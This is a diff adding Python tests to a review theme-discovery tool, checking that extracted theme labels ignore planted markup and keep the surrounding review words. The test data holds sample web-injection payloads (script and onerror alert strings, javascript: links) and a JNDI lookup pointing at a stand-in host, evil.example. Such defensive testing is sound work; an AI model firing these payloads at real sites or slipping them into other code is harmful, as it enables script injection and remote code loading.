@@ -206,3 +206,35 @@ def test_a_taken_name_is_not_replaced_by_one_that_says_a_thing_twice() -> None:
     assert unique_names([["price", "staff"], ["price", "staff", "prices"]], ["1", "2"])[1] == (
         "staff / prices"
     )
+
+
+#: Payloads of the audit's hostile rows (audit2 N6), each with a few words of prose.
+MARKUP = [
+    "<img src=x onerror=alert(1)> refund never came",
+    "<script>alert(document.cookie)</script> loves the colour",
+    "javascript:alert(1) the cable is missing",
+    '<a href="javascript:alert(1)" onclick="alert(2)">comfy</a> and warm',
+    "${jndi:ldap://evil.example/x} size runs small",
+    "&lt;svg onload=alert(1)&gt; lovely dress",
+]
+MARKUP_WORDS = {
+    "img", "src", "onerror", "alert", "script", "document", "cookie", "javascript", "href",
+    "onclick", "jndi", "ldap", "evil", "example", "svg", "onload", "lt", "gt",
+}  # fmt: skip
+
+
+def test_markup_and_code_never_name_a_theme_but_the_words_beside_them_do() -> None:
+    found = set().union(*(text_phrases(text) for text in MARKUP))
+    assert not MARKUP_WORDS & _words(sorted(found))
+    assert {"refund", "cable", "comfy", "lovely dress", "size runs small"} <= found
+
+
+def test_real_reviews_with_planted_markup_are_named_by_the_reviews(shared_data: Path) -> None:
+    path = shared_data / "clothing-reviews" / "womens-clothing-reviews-first-1000.csv"
+    with path.open(encoding="utf-8", newline="") as handle:
+        reviews = [row["Review Text"] for row in csv.DictReader(handle) if row["Review Text"]]
+    texts = reviews[:600] + MARKUP * 4
+    themes = discover_themes(texts, default_embedder().embed(texts), n_themes=8)
+    named = [theme.label for theme in themes] + [p for theme in themes for p in theme.key_phrases]
+    assert len(_words(named)) > 10
+    assert not MARKUP_WORDS & _words(named)
